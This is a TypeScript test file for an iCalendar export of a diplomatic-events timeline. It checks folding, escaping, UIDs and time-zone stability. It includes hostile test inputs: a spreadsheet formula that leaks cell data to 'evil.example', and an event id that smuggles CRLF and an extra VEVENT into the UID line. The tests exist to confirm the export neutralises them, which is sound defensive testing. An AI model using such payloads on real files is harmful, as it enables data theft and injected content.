import { afterEach, describe, expect, it } from 'vitest';
import { WITHHELD_ADDRESS } from '../../../lib/safe-url';
import { holdsScript, scriptAddresses } from './script-addresses.fixture';
import { eventsToIcs } from './to-ics';
import {
  budapest,
  formula,
  istanbul,
  jakarta,
  leap,
  trickyEvents,
  vocabulary,
  yearOnly,
} from './tricky-events.fixture';
import { unescapeText, unfoldIcsLines, vevents } from './ics-test-helpers';
import { generateEvents } from '../../../../scripts/lib/synthetic/generate-events';

const stamp = new Date(Date.UTC(2026, 10, 27, 12, 0, 0));
const permalink = (id: string) => `https://example.org/timeline/#/event/${id}`;
const octets = (s: string) => new TextEncoder().encode(s).length;

const byUid = (text: string) => new Map(vevents(text).map((e) => [e.get('UID'), e]));

describe('eventsToIcs', () => {
  const { text, skipped } = eventsToIcs(trickyEvents, { stamp, permalink, vocabulary });
  const entries = byUid(text);

  it('leaves out month- and year-precision events and reports them', () => {
    expect(skipped).toEqual([budapest, yearOnly]);
    expect(entries.size).toBe(4);
    expect(text).not.toContain(budapest.id);
    expect(text).not.toContain(yearOnly.id);
  });

  it('writes day-precision events as all-day entries with an exclusive DTEND', () => {
    const days = (id: string) => {
      const e = entries.get(`${id}@diplomatic-timeline`);
      return [e?.get('DTSTART;VALUE=DATE'), e?.get('DTEND;VALUE=DATE')];
    };
    expect(days(istanbul.id)).toEqual(['20250516', '20250517']);
    // Across a month boundary, a year boundary and 29 February.
    expect(days(formula.id)).toEqual(['20250530', '20250603']);
    expect(days(jakarta.id)).toEqual(['20251230', '20260103']);
    expect(days(leap.id)).toEqual(['20240228', '20240301']);
    expect(text).not.toMatch(/^DTSTART:/m);
  });

  it('folds every line at 75 octets, Cyrillic and emoji included', () => {
    const lines = text.split('\r\n');
    for (const line of lines) expect(octets(line)).toBeLessThanOrEqual(75);
    expect(lines.some((l) => l.startsWith(' ') && /[а-я]/.test(l))).toBe(true);
    expect(text.endsWith('END:VCALENDAR\r\n')).toBe(true);
    // Only CRLF ends a line: no bare LF, and the lone CR in a summary did not get through.
    expect(text).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
  });

  it('escapes commas, semicolons, backslashes and newlines in text, and unescapes to the original', () => {
    const e = entries.get(`${istanbul.id}@diplomatic-timeline`);
    expect(e?.get('SUMMARY')).toBe('Переговоры в Стамбуле\\, раунд 1\\; "первый"');
    expect(e?.get('LOCATION')).toBe('Dolmabahçe Sarayı\\, İstanbul\\, Türkiye');
    const description = unescapeText(e?.get('DESCRIPTION') ?? '');
    expect(description).toBe(
      [
        istanbul.summary.replace('\r\n', '\n'),
        'Sources:\nHürriyet Daily News: https://www.hurriyetdailynews.com/istanbul-talks-209262\n' +
          'Цензор.НЕТ: https://censor.net/ru/news/3552673/peregovory-v-stambule',
        `In the Diplomatic Timeline: ${permalink(istanbul.id)}`,
      ].join('\n\n'),
    );
    expect(e?.get('DESCRIPTION')).toContain('a backslash \\\\ and');
    expect(e?.get('DESCRIPTION')).not.toMatch(/[^\\][,;]/);
  });

  it('sets UID, URL, STATUS, DTSTAMP and a title that says when an event was called off', () => {
    const held = entries.get(`${istanbul.id}@diplomatic-timeline`);
    expect(held?.get('URL')).toBe(permalink(istanbul.id));
    expect(held?.get('STATUS')).toBe('CONFIRMED');
    expect(held?.get('DTSTAMP')).toBe('20261127T120000Z');
    expect(held?.get('TRANSP')).toBe('TRANSPARENT');
    expect(held?.get('CATEGORIES')).toBe('Negotiation round');

    const cancelled = entries.get(`${jakarta.id}@diplomatic-timeline`);
    expect(cancelled?.get('STATUS')).toBe('CANCELLED');
    expect(unescapeText(cancelled?.get('SUMMARY') ?? '')).toBe(`Cancelled: ${jakarta.title}`);
    expect(unescapeText(cancelled?.get('DESCRIPTION') ?? '')).toContain(
      'Cancelled (20 December 2025): Dibatalkan.',
    );
    expect(cancelled?.get('LOCATION')).toBe('Jakarta\\, Indonesia');

    expect(entries.get(`${leap.id}@diplomatic-timeline`)?.get('STATUS')).toBe('TENTATIVE');
    // No location, no LOCATION line; a formula-like title is just text here.
    const statement = entries.get(`${formula.id}@diplomatic-timeline`);
    expect(statement?.has('LOCATION')).toBe(false);
    expect(unescapeText(statement?.get('SUMMARY') ?? '')).toBe(formula.title);
  });

  it('writes a calendar header with our product id', () => {
    expect(text.startsWith('BEGIN:VCALENDAR\r\nVERSION:2.0\r\n')).toBe(true);
    expect(text).toContain('PRODID:-//Diplomatic Timeline//Export//EN\r\n');
    expect(text).toContain('X-WR-CALNAME:Diplomatic Timeline\r\n');
  });

  it('records the dataset version and the view it came from, in the calendar and in every entry', () => {
    const view = {
      description: 'Search “a, b; c\\d”; kind: summit',
      address: 'https://example.org/?q=a,b&kind=summit',
    };
    const withVersion = eventsToIcs([istanbul, formula], {
      stamp,
      permalink,
      vocabulary,
      datasetVersion: '2026.11.27.2',
      view,
    }).text;
    const calendar = unfoldIcsLines(withVersion).split('\r\n');
    const calDesc = calendar.find((line) => line.startsWith('X-WR-CALDESC:'));
    expect(unescapeText(calDesc?.slice('X-WR-CALDESC:'.length) ?? '')).toBe(
      'Diplomatic Timeline, dataset version 2026.11.27.2. ' +
        'View: Search “a, b; c\\d”; kind: summit. https://example.org/?q=a,b&kind=summit',
    );
    // Before the first entry, as a calendar property.
    expect(calendar.indexOf(calDesc!)).toBeLessThan(calendar.indexOf('BEGIN:VEVENT'));
    for (const entry of vevents(withVersion)) {
      expect(unescapeText(entry.get('DESCRIPTION') ?? '')).toMatch(
        /\n\nIn the Diplomatic Timeline, dataset version 2026\.11\.27\.2: https:\/\/example\.org\/\S+$/,
      );
    }
    const noLink = vevents(eventsToIcs([istanbul], { stamp, datasetVersion: '2026.11.27.2' }).text)[0];
    expect(unescapeText(noLink?.get('DESCRIPTION') ?? '')).toMatch(
      /\n\nFrom the Diplomatic Timeline, dataset version 2026\.11\.27\.2\.$/,
    );
  });

  it('works without permalinks or vocabulary', () => {
    const bare = byUid(eventsToIcs([istanbul], { stamp }).text).get(`${istanbul.id}@diplomatic-timeline`);
    expect(bare?.has('URL')).toBe(false);
    expect(bare?.get('LOCATION')).toBe('Dolmabahçe Sarayı\\, İstanbul\\, TR');
    expect(unescapeText(bare?.get('DESCRIPTION') ?? '')).not.toContain('Diplomatic Timeline:');
  });

  it('turns a lone CR into a line break and drops other control characters', () => {
    const result = eventsToIcs([{ ...istanbul, summary: 'a\rb\u0007c\u0000d\te' }], { stamp });
    expect(result.text).not.toMatch(/\r(?!\n)|(?![\t\r\n])\p{Cc}/u);
    const e = byUid(result.text).get(`${istanbul.id}@diplomatic-timeline`);
    expect(e?.get('DESCRIPTION')?.startsWith('a\\nbcd\te\\n\\nSources:')).toBe(true);
  });

  it('keeps an id of a served file that came through no validator inside its UID line', () => {
    // The validator allows only a slug; a served file need not have come through it.
    const hostile = { ...istanbul, id: 'x\r\nBEGIN:VEVENT\r\nSUMMARY:injected;a,b\\' };
    const result = eventsToIcs([hostile], { stamp });
    expect(vevents(result.text)).toHaveLength(1);
    expect(result.text).not.toMatch(/^SUMMARY:injected/m);
    expect(unfoldIcsLines(result.text)).toContain(
      'UID:x\\nBEGIN:VEVENT\\nSUMMARY:injected\\;a\\,b\\\\@diplomatic-timeline\r\n',
    );
  });

  it('takes a permalink on a local preview server, and refuses a relative one rather than write a bad URL', () => {
    const local = (id: string) => `http://localhost:4173/?event=${id}#top`;
    const e = byUid(eventsToIcs([istanbul], { stamp, permalink: local }).text);
    expect(e.get(`${istanbul.id}@diplomatic-timeline`)?.get('URL')).toBe(local(istanbul.id));
    expect(() => eventsToIcs([istanbul], { stamp, permalink: (id) => `/event/${id}` })).toThrow(/calendar/);
  });

  it('skips an event whose start is to the day but whose end is only a month', () => {
    const result = eventsToIcs([{ ...istanbul, end: '2025-06' }], { stamp });
    expect(result.skipped.map((e) => e.id)).toEqual([istanbul.id]);
    expect(vevents(result.text)).toEqual([]);
  });
});

describe('eventsToIcs and renamed events', () => {
  const uids = (events: (typeof istanbul)[]) =>
    vevents(eventsToIcs(events, { stamp, permalink }).text).map((e) => e.get('UID'));

  it('keeps the UID of the first export after a rename, so that importing again updates the entry', () => {
    const before = uids([istanbul]);
    const renamed = { ...istanbul, id: '2025-05-15-istanbul-talks-round-1', formerIds: [istanbul.id] };
    expect(uids([renamed])).toEqual(before);
    // Renamed again: the first id is still the first in formerIds, wherever the dates put the others.
    const again = {
      ...istanbul,
      id: '2025-05-17-istanbul-talks-round-1',
      formerIds: [istanbul.id, '2025-05-15-istanbul-talks-round-1'],
    };
    expect(uids([again])).toEqual(before);
  });

  it('still links the entry to the event under its current id', () => {
    const renamed = { ...istanbul, id: '2025-05-15-istanbul-talks-round-1', formerIds: [istanbul.id] };
    const [entry] = vevents(eventsToIcs([renamed], { stamp, permalink }).text);
    expect(entry?.get('URL')).toBe(permalink(renamed.id));
  });
});

describe('eventsToIcs and addresses that are not web links', () => {
  it('withholds them in the list of sources, as the page does', () => {
    const { text } = eventsToIcs([scriptAddresses], { stamp, permalink, vocabulary });
    const unfolded = text.replace(/\r\n[ \t]/g, '');
    expect(holdsScript(unfolded)).toBe(false);
    const description = unescapeText(vevents(text)[0]!.get('DESCRIPTION')!);
    expect(description).toContain(
      ['Sources:', 'Example: https://example.org/safe', `Publisher 1: ${WITHHELD_ADDRESS}`].join('\n'),
    );
    expect(description.split(WITHHELD_ADDRESS)).toHaveLength(5);
  });
});

describe('eventsToIcs and time zones', () => {
  const original = process.env.TZ;
  afterEach(() => {
    process.env.TZ = original;
  });

  it('writes the same days wherever it runs', () => {
    const outputs = ['Pacific/Kiritimati', 'America/Adak', 'UTC'].map((zone) => {
      process.env.TZ = zone;
      return eventsToIcs(trickyEvents, { stamp, permalink, vocabulary }).text;
    });
    expect(new Set(outputs).size).toBe(1);
  });
});

describe('eventsToIcs, written line by line', () => {
  it('writes the file the `ics` package wrote, to the octet', () => {
    // The whole text of two entries as the export wrote it while it went through `ics` (3.12): header,
    // calendar description, property order, escapes and folds.
    const { text } = eventsToIcs([istanbul, formula], {
      stamp,
      permalink,
      vocabulary,
      datasetVersion: '2026.11.27',
      view: { description: 'Kind: Summit', address: 'https://example.org/timeline/?kind=summit' },
    });
    expect(text.split('\r\n')).toEqual([
      'BEGIN:VCALENDAR',
      'VERSION:2.0',
      'CALSCALE:GREGORIAN',
      'PRODID:-//Diplomatic Timeline//Export//EN',
      'METHOD:PUBLISH',
      'X-WR-CALNAME:Diplomatic Timeline',
      'X-PUBLISHED-TTL:PT1H',
      'X-WR-CALDESC:Diplomatic Timeline\\, dataset version 2026.11.27. View: Kind: ',
      ' Summit. https://example.org/timeline/?kind=summit',
      'BEGIN:VEVENT',
      'UID:2025-05-16-istanbul-talks-round-1@diplomatic-timeline',
      'SUMMARY:Переговоры в Стамбуле\\, раунд 1\\; "перв',
      ' ый"',
      'DTSTAMP:20261127T120000Z',
      'DTSTART;VALUE=DATE:20250516',
      'DTEND;VALUE=DATE:20250517',
      'DESCRIPTION:Delegations met at Dolmabahçe Sarayı\\, İstanbul\\; they agree',
      ' d a "1\\,000-for-1\\,000" exchange.\\nSecond line\\, with a backslash \\\\ and a',
      '  tab\there.\\nThird line after CRLF.\\n\\nSources:\\nHürriyet Daily News: http',
      ' s://www.hurriyetdailynews.com/istanbul-talks-209262\\nЦензор.НЕТ: ',
      ' https://censor.net/ru/news/3552673/peregovory-v-stambule\\n\\nIn the Diploma',
      ' tic Timeline\\, dataset version 2026.11.27: https://example.org/timeline/#/',
      ' event/2025-05-16-istanbul-talks-round-1',
      'URL:https://example.org/timeline/#/event/2025-05-16-istanbul-talks-round-1',
      'LOCATION:Dolmabahçe Sarayı\\, İstanbul\\, Türkiye',
      'STATUS:CONFIRMED',
      'CATEGORIES:Negotiation round',
      'X-MICROSOFT-CDO-BUSYSTATUS:FREE',
      'TRANSP:TRANSPARENT',
      'END:VEVENT',
      'BEGIN:VEVENT',
      'UID:2025-05-30-formula-test@diplomatic-timeline',
      'SUMMARY:=HYPERLINK("http://evil.example/?leak="&A1\\,"Click")',
      'DTSTAMP:20261127T120000Z',
      'DTSTART;VALUE=DATE:20250530',
      'DTEND;VALUE=DATE:20250603',
      'DESCRIPTION:@SUM(A1:A9)\\nstill the same cell\\n\\nSources:\\nExample: https://',
      ' example.org/a\\n\\nIn the Diplomatic Timeline\\, dataset version 2026.11.27: ',
      ' https://example.org/timeline/#/event/2025-05-30-formula-test',
      'URL:https://example.org/timeline/#/event/2025-05-30-formula-test',
      'STATUS:CONFIRMED',
      'CATEGORIES:Statement',
      'X-MICROSOFT-CDO-BUSYSTATUS:FREE',
      'TRANSP:TRANSPARENT',
      'END:VEVENT',
      'END:VCALENDAR',
      '',
    ]);
  });

  it('writes a calendar of thousands of events at about the cost of serialising them', () => {
    // Through `ics`, each entry was checked against a schema and folded a grapheme at a time: 10,000
    // events took 14 s in Chromium, the page frozen throughout, and 50,000 over a minute; over a hundred
    // times what JSON.stringify takes for the same events, where writing the lines takes under ten times.
    // Measured against JSON.stringify on the same machine, the bound holds on a busy one too.
    const events = generateEvents(6000, 3);
    // Each at its best of three, taken in turns, so that a moment of a busy machine falls on both alike.
    let [yardstick, took, written] = [Infinity, Infinity, ''];
    for (let round = 0; round < 3; round++) {
      yardstick = Math.min(
        yardstick,
        timed(() => JSON.stringify(events)),
      );
      took = Math.min(
        took,
        timed(() => (written = eventsToIcs(events, { stamp, permalink, vocabulary }).text)),
      );
    }
    expect(took / yardstick, `${took.toFixed(0)} ms against ${yardstick.toFixed(0)} ms`).toBeLessThan(50);
    expect(vevents(written).length).toBeGreaterThan(5000);
  });
});

/** How long `work` takes, in milliseconds. */
function timed(work: () => unknown): number {
  const started = performance.now();
  work();
  return performance.now() - started;
}
